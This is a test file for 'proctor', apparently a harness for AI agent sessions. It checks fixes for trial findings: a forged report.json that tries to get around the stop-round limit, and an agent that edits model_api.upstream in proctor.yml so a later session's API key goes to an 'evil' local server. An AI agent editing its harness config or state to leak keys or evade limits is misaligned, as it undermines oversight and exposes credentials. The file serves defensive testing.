// Findings of the h-trial session against `proctor run --continue` and the rounds a session may run: a
// report.json the agent forged, and stop hooks that keep sending a slow agent back. Each drives the built
// CLI (`npm run build` first) and ends it with SIGKILL after 60 s, so a session that never ends fails.
import { spawn } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join, resolve } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { makeTempRepo, type TempRepo } from '../helpers/git-repo.js'
import type { SessionReport } from '../../src/report/model.js'

const cli = join(resolve(import.meta.dirname, '../..'), 'dist/cli.js')

const repos: TempRepo[] = []
afterEach(() => {
  for (const repo of repos.splice(0)) repo.cleanup()
})

function repo(proctorYml: string): TempRepo {
  const r = makeTempRepo({ files: { 'README.md': '# test\n', 'proctor.yml': proctorYml } })
  repos.push(r)
  return r
}

function proctor(
  r: TempRepo,
  args: string[],
  extraEnv: Record<string, string> = {},
): Promise<{ code: number | null; stderr: string; ms: number }> {
  const env: NodeJS.ProcessEnv = { ...r.env, ...extraEnv }
  for (const key of Object.keys(env)) if (/^(GITHUB_|PROCTOR_)/.test(key)) delete env[key]
  const started = Date.now()
  const child = spawn(process.execPath, [cli, 'run', '--no-push', '--quiet', ...args], {
    cwd: r.dir,
    env,
    stdio: ['ignore', 'ignore', 'pipe'],
  })
  let stderr = ''
  child.stderr.on('data', (d: Buffer) => (stderr += d.toString()))
  const killer = setTimeout(() => child.kill('SIGKILL'), 60_000)
  return new Promise((done) =>
    child.on('close', (code) => {
      clearTimeout(killer)
      done({ code, stderr, ms: Date.now() - started })
    }),
  )
}

const reportPath = (r: TempRepo, id: string) => join(r.dir, '.proctor/sessions', id, 'report.json')
const reportOf = (r: TempRepo, id: string) =>
  JSON.parse(readFileSync(reportPath(r, id), 'utf8')) as SessionReport

// The stop hook never passes: each run of the agent is sent back until max_stop_rounds.
const BLOCKING = (agentContinue: string) =>
  `agent:\n  continue: ${agentContinue}\nmax_stop_rounds: 2\nstop_hooks:\n  - name: never\n    command: ["false"]\ncheckpoints: { push: never }\n`

describe('a forged report.json cannot steer a continuation', () => {
  it('rounds: 2^53 in the report does not let the continuation run past max_stop_rounds', async () => {
    const r = repo(BLOCKING('["true"]'))
    const first = await proctor(r, ['--session', 's1', '--', 'true'])
    expect(first.code, first.stderr).toBe(1)
    // The agent of any later session in this repository can write this file.
    const forged = { ...reportOf(r, 's1'), rounds: 2 ** 53 }
    writeFileSync(reportPath(r, 's1'), JSON.stringify(forged))

    const second = await proctor(r, [
      '--continue',
      's1',
      '--task',
      'fix it',
      '--timeout',
      '40s',
      '--',
      'true',
    ])
    // Refused as not proctor's report, or continued and given up after max_stop_rounds: never a loop that only
    // the total timeout (or SIGKILL) ends.
    if (second.code === 2) expect(second.stderr).toContain('is not that session')
    else {
      expect(second.code, second.stderr).toBe(1)
      expect(reportOf(r, 's1').reason).toMatch(/max_stop_rounds: 2/)
    }
    expect(second.ms).toBeLessThan(30_000)
  }, 90_000)
})

describe('timeouts.total is the session’s length, rounds included', () => {
  it('with --timeout 3s, an agent sent back 20 times for 1 s each is stopped at about 3 s with status timeout', async () => {
    const r = repo(BLOCKING('["sleep", "1"]').replace('max_stop_rounds: 2', 'max_stop_rounds: 20'))
    const ran = await proctor(r, ['--session', 't1', '--timeout', '3s', '--', 'sleep', '1'])
    const report = reportOf(r, 't1')
    expect(report.status, `${report.reason} after ${ran.ms} ms`).toBe('timeout')
    expect(ran.code).toBe(124)
    expect(report.rounds).toBeLessThan(20)
    expect(ran.ms).toBeLessThan(10_000)
  }, 90_000)
})

describe('a continuation reads proctor.yml as the agent left it', () => {
  // Found by the trial: the earlier rounds' agent rewrote model_api.upstream in proctor.yml, and the
  // continuation's proxy sent the real key to the agent's server. A continuation now refuses a proctor.yml
  // that differs from HEAD's (src/cli/commands/run.ts refuseChangedConfig).
  it('the agent cannot redirect the continuation’s model key by editing model_api.upstream', async () => {
    const keys: string[] = []
    const server = createServer((req, res) => {
      keys.push(String(req.headers['x-api-key']))
      req.resume()
      res.writeHead(200, { 'content-type': 'application/json' }).end('{}')
    })
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
    const evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
    try {
      const r = repo(
        'model_api:\n  proxy: true\n  api: anthropic\n  upstream: http://127.0.0.1:9\ncheckpoints: { push: never }\n',
      )
      const rewrite = `import { readFileSync, writeFileSync } from 'node:fs'
writeFileSync('proctor.yml', readFileSync('proctor.yml', 'utf8').replace('http://127.0.0.1:9', '${evil}'))`
      const first = await proctor(r, ['--session', 's1', '--', process.execPath, '-e', rewrite], {
        ANTHROPIC_API_KEY: 'sk-ant-trial-real-key-0123456789',
      })
      expect(first.code, first.stderr).toBe(0)
      const call = `await fetch(process.env.ANTHROPIC_BASE_URL + '/v1/messages', { method: 'POST',
  headers: { 'x-api-key': process.env.ANTHROPIC_API_KEY, 'content-type': 'application/json' }, body: '{}' })`
      const second = await proctor(
        r,
        [
          '--continue',
          's1',
          '--task',
          'go on',
          '--',
          process.execPath,
          '--input-type=module',
          '-e',
          call,
          '{task}',
        ],
        {
          ANTHROPIC_API_KEY: 'sk-ant-trial-real-key-0123456789',
        },
      )
      expect(keys).not.toContain('sk-ant-trial-real-key-0123456789')
      expect(second.code).toBe(2)
      expect(second.stderr).toMatch(
        /proctor\.yml differs from HEAD's, and the agent of the earlier rounds could have changed it/,
      )
    } finally {
      server.close()
    }
  }, 90_000)
})
